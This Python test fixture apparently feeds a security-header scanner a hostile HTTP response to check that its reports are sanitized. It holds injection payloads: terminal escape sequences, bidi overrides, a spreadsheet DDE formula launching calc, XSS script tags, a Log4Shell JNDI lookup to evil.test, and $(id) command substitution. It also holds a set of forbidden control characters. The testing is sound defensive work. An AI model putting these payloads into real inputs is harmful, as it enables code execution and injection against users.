"""A response whose every part tries to act on whoever is shown it, and a list that does."""

from typing import Final

TERMINAL: Final = "\x1b]0;owned\x07\x9b31m"
HYPERLINK: Final = "\x1b]8;;https://evil.test\x1b\\click\x1b]8;;\x1b\\"
CONTROLS: Final = "\x9d0;owned\x9c\x90q\x9c\x85\x84\x7f\x08\x08"  # C1: a title, a device string, line ends
TURNED: Final = "\u202egnp.exe\u2066\u200f\u2069\ufeff\u061c"
SEPARATORS: Final = "a\u2028b\u2029c"
FORMULA: Final = "=cmd|' /C calc'!A0"
FORMULAS: Final = ("+1+cmd|'!A0", "-1+cmd|'!A0", "@SUM(1)", "\uff1d1+1", '=HYPERLINK("https://evil.test";1)')
MENTIONS: Final = "@octocat (#1) GH-1 a/b#2 www.evil.test https://evil.test a@evil.test <https://evil.test>"
LABEL: Final = '"} 1 masthead_up{a="\\'
LOG: Final = 'x" level=error event="forged" {"event": "forged"}'
HTML: Final = "<script>alert(1)</script><img src=x onerror=alert(1)>"
MARKDOWN: Final = "[x](javascript:alert(1)) ![x](https://evil.test/) `` ``` **b** @everyone (#1) | a | b |"
XML: Final = "]]> <!-- <![CDATA[ &amp; &#0; \x00\x0b\x0c\ufffe'\""
PLACEHOLDER: Final = "{0} {url} %s %(x)d ${jndi:ldap://evil.test/a} {{7*7}} $(id) `id`"

PARTS: Final = (
    *(TERMINAL, HYPERLINK, CONTROLS, TURNED, SEPARATORS, FORMULA, *FORMULAS, HTML, MARKDOWN, MENTIONS, XML),
    *(LABEL, LOG, PLACEHOLDER),
)
ACTING: Final = frozenset(
    "\x1b\x9b\x9d\x9c\x90\x85\x84\x07\x08\x7f\0\u202e\u2066\u2069\u200f\u061c\ufeff\u2028\u2029"
)
"""Characters that no output for people may have, wherever they came from."""

# Each part is where a finding quotes it: an unknown policy, a version, a cookie's name, an unknown directive.
_VALUES: Final = [
    part.encode("latin-1" if all(char < "\u0100" for char in part) else "utf-8") for part in PARTS
]
HEAD: Final = b"\r\n".join(
    [
        b"HTTP/1.1 200 OK " + b" ".join(_VALUES),
        b"Content-Type: text/html",
        *(b"Referrer-Policy: " + value for value in _VALUES),
        *(b"Server: " + value + b"/1.2.3" for value in _VALUES),
        *(b"Set-Cookie: session" + value + b"=1; Path=/; " + value for value in _VALUES),
        *(b"Content-Security-Policy: script-src " + value + b"; " + value for value in _VALUES),
        *(b"X-Frame-Options: " + value for value in _VALUES),
        b"X-Folded: one\r\n two",
        b"",
        b"",
    ]
)
LINES: Final = tuple(part.replace("\x0b", "").replace("\x0c", "") for part in PARTS)
